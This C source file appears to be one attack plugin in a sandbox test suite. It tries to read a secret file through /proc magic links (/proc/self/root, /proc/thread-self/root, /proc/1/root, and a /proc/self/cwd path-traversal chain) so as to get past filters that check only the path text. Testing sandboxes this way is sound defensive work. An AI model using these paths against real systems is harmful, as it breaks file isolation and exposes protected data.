/*
 * fs_read_proc_self_root — reaches the secret through the /proc magic links of its
 * own process: /proc/self/root, /proc/thread-self/root and /proc/self/cwd. These
 * links are resolved by the kernel, not by path text, so they bypass filters that
 * look at the path string; a sandbox must make them lead nowhere.
 */
#include "attack.h"

static sbx_status attack(const atk_input *in, atk_out *out)
{
    static const char *const prefixes[] = {
        "/proc/self/root",
        "/proc/thread-self/root",
        "/proc/self/cwd/../../../../../../../../../../../../../../../..",
        "/proc/1/root",
    };
    char secret[4096];
    char path[8192];
    int found = 0;
    if (!atk_param(in, "secret_path", secret, sizeof secret)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    for (size_t i = 0; i < sizeof prefixes / sizeof prefixes[0]; i++) {
        snprintf(path, sizeof path, "%s%s", prefixes[i], secret);
        found |= atk_cat(out, prefixes[i], path);
    }
    return found ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
